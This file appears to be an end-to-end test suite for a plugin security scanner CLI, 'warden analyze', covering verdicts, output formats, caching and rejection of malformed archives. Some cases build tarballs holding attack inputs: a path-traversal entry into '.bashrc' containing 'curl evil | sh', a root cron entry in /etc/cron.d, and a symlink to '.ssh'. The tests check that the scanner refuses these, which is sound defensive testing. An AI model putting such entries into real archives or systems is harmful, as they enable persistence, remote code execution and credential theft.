@@ -1,0 +1,136 @@
+/**
+ * `warden analyze` end to end: the built CLI (dist/, from `npm run build`)
+ * spawned as a user would run it, with a private TMPDIR so "nothing left
+ * behind" is checked exactly.
+ */
+import { execFileSync } from 'node:child_process';
+import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { analyzePlugin } from '../../analyzer/index.js';
+import { extractionDirs, FIXTURES, MANIFEST, packageEntries, rawTarball, runCli, tempDir, writePlugin, type RawEntry } from '../analyzer/helpers.js';
+
+let tmp: string;
+beforeEach(() => {
+  tmp = tempDir('warden-cli-');
+});
+
+const analyze = (...args: string[]) => runCli(['analyze', ...args], { env: { TMPDIR: tmp } });
+const fixture = (name: string) => join(FIXTURES, name);
+
+function tarball(entries: RawEntry[]): string {
+  const file = join(tempDir(), 'plugin.tgz');
+  writeFileSync(file, rawTarball(entries));
+  return file;
+}
+
+describe('warden analyze: verdicts', () => {
+  it('exits 0 for an allowed plugin and prints one JSON object when stdout is not a terminal', () => {
+    const result = analyze(fixture('clean'), '--no-cache');
+    expect(result.status).toBe(0);
+    expect(result.stderr).toBe('');
+    const report = JSON.parse(result.stdout);
+    expect(report).toMatchObject({ schemaVersion: 1, plugin: { id: 'acme.clean' }, tier: 'community', decision: { action: 'allow' }, findings: [] });
+  });
+
+  it('exits 1 for a blocked plugin; the stylish report names the tier; --tier changes the verdict', () => {
+    const blocked = analyze(fixture('stealer'), '--format', 'stylish', '--no-cache');
+    expect(blocked.status).toBe(1);
+    expect(blocked.stdout).toContain('blocked for community: 4 critical, 3 high');
+    expect(blocked.stdout).not.toMatch(/\x1b\[/);
+    const official = analyze(fixture('stealer'), '--tier', 'official', '--no-cache');
+    expect(official.status).toBe(0);
+    expect(JSON.parse(official.stdout).decision.action).toBe('warn');
+  });
+
+  it('analyzes several paths (folder and npm pack tarball) into an array, with a summary line each on stderr', () => {
+    const packDir = tempDir();
+    execFileSync('npm', ['pack', '--silent', '--pack-destination', packDir], { cwd: fixture('clean'), env: { ...process.env, npm_config_loglevel: 'silent' } });
+    const [tgz] = readdirSync(packDir);
+    const result = analyze(fixture('stealer'), join(packDir, tgz), '--no-cache');
+    expect(result.status).toBe(1);
+    expect(JSON.parse(result.stdout).map((report: { plugin: { id: string } }) => report.plugin.id)).toEqual(['mallory.stealer', 'acme.clean']);
+    expect(result.stderr.trimEnd().split('\n')).toEqual([expect.stringMatching(/^blocked +mallory\.stealer@0\.0\.1 /), expect.stringMatching(/^allowed +acme\.clean@1\.2\.0 .*clean-1\.2\.0\.tgz +no findings$/)]);
+    expect(extractionDirs(tmp)).toEqual([]);
+  });
+
+  it('writes --output instead of stdout, in SARIF when asked', () => {
+    const out = join(tempDir(), 'review.sarif');
+    const result = analyze(fixture('stealer'), '--format', 'sarif', '--output', out, '--no-cache');
+    expect(result.status).toBe(1);
+    expect(result.stdout).toBe('');
+    expect(JSON.parse(readFileSync(out, 'utf8')).runs[0].results.length).toBeGreaterThan(0);
+  });
+
+  it('lets a --policy file change what blocks', () => {
+    const policy = join(tempDir(), 'policy.json');
+    writeFileSync(policy, JSON.stringify({ tiers: { community: { high: 'warn' } } }));
+    expect(analyze(fixture('typescript'), '--no-cache').status).toBe(1);
+    const loosened = analyze(fixture('typescript'), '--policy', policy, '--no-cache');
+    expect(loosened.status).toBe(0);
+    expect(JSON.parse(loosened.stdout).decision.action).toBe('warn');
+  });
+
+  it('reuses cached results on a second run over the same files', () => {
+    const cacheDir = tempDir();
+    const cold = JSON.parse(analyze(fixture('stealer'), '--cache-dir', cacheDir).stdout);
+    const warm = JSON.parse(analyze(fixture('stealer'), '--cache-dir', cacheDir).stdout);
+    expect(cold.stats.cached).toBe(0);
+    expect(warm.stats.cached).toBe(2);
+    expect(warm.findings).toEqual(cold.findings);
+  });
+
+  it('lints big work in the worker pool with the same findings as in-process', async () => {
+    // Over the pool threshold: several files of ordinary code, and a finding in each of two of them.
+    const filler = Array.from({ length: 6000 }, (_, i) => `function f${i}(a, b) { return a * ${i} + b.length; }`).join('\n');
+    const root = writePlugin({
+      'package.json': MANIFEST,
+      'index.js': `${filler}\nrequire('child_process').exec('id');\n`,
+      'a.js': filler,
+      'b.js': `${filler}\nfetch('https://example.com');\n`,
+      'c.js': filler,
+    });
+    const result = analyze(root, '--no-cache');
+    const inProcess = await analyzePlugin(root, { cache: false });
+    expect(JSON.parse(result.stdout).findings).toEqual(inProcess.findings);
+    expect(inProcess.findings.map((f) => f.file)).toEqual(['b.js', 'index.js']);
+  });
+});
+
+describe('warden analyze: bad input exits 2 with one line and leaves nothing behind', () => {
+  const cases: [string, () => string[], RegExp][] = [
+    ['a missing path', () => ['/nonexistent/plugin'], /^warden: cannot read \/nonexistent\/plugin: no such file or folder$/],
+    ['a folder without package.json', () => [writePlugin({ 'index.js': '' })], /^warden: cannot analyze .+: no package.json$/],
+    ['invalid JSON', () => [writePlugin({ 'package.json': '{ "name": "x",' })], /^warden: invalid manifest .+\/package\.json: not valid JSON/],
+    ['a missing required field', () => [writePlugin({ 'package.json': { ...MANIFEST, engines: {} } })], /^warden: invalid manifest .+\/package\.json: "engines\.warden" is required$/],
+    ['a corrupt .tgz', () => [(writeFileSync(join(tmp, 'x.tgz'), 'not a tarball'), join(tmp, 'x.tgz'))], /^warden: corrupt archive .+x\.tgz: /],
+    ['a .tgz with ../ entries', () => [tarball([...packageEntries(), { name: 'package/../../../.bashrc', content: 'curl evil | sh' }])], /^warden: refused archive .+: entry "package\/\.\.\/\.\.\/\.\.\/\.bashrc" is an absolute path or leaves the package folder$/],
+    ['a .tgz with an absolute path', () => [tarball([...packageEntries(), { name: '/etc/cron.d/evil', content: '* * * * * root id' }])], /^warden: refused archive .+: entry "\/etc\/cron\.d\/evil" is an absolute path/],
+    ['a .tgz with a symlink escaping the root', () => [tarball([...packageEntries(), { name: 'package/keys', type: '2', linkname: '../../.ssh' }])], /^warden: refused archive .+: symlink "package\/keys" points outside the package \(\.\.\/\.\.\/\.ssh\)$/],
+    ['a .tgz with an oversized entry', () => [tarball([...packageEntries(), { name: 'package/big.js', size: 1024 * 1024 * 1024 }])], /^warden: refused archive .+: entry "package\/big\.js" is 1073741824 bytes, over the 67108864-byte limit$/],
+    ['an unknown flag', () => [fixture('clean'), '--fast'], /^warden: unknown option '--fast'$/],
+    ['an unknown tier', () => [fixture('clean'), '--tier', 'friends'], /^warden: option '--tier <tier>' argument 'friends' is invalid\. Allowed choices are official, trusted, community, unregistered\.$/],
+    ['an invalid policy file', () => [fixture('clean'), '--policy', (writeFileSync(join(tmp, 'p.json'), '{"tiers":{"community":{"high":"nope"}}}'), join(tmp, 'p.json'))], /^warden: invalid policy .+p\.json: "tiers\.community\.high" must be one of block, warn, show, hidden$/],
+  ];
+
+  it.each(cases)('%s', (_label, args, message) => {
+    const out = join(tmp, 'report.json');
+    const result = analyze(...args(), '--output', out, '--no-cache');
+    expect(result.status).toBe(2);
+    expect(result.stdout).toBe('');
+    expect(result.stderr.endsWith('\n')).toBe(true);
+    const lines = result.stderr.trimEnd().split('\n');
+    expect(lines).toHaveLength(1);
+    expect(lines[0]).toMatch(message);
+    expect(existsSync(out)).toBe(false);
+    expect(extractionDirs(tmp)).toEqual([]);
+  });
+
+  it('does not follow a folder plugin symlink out of its root, and says so as a finding', () => {
+    const root = writePlugin({ 'package.json': MANIFEST, 'index.js': '' });
+    symlinkSync('/usr/lib', join(root, 'vendor'));
+    const result = analyze(root, '--no-cache');
+    expect(result.status).toBe(1);
+    expect(JSON.parse(result.stdout).findings).toMatchObject([{ file: 'vendor', category: 'unanalyzable', severity: 'critical' }]);
+  });
+});
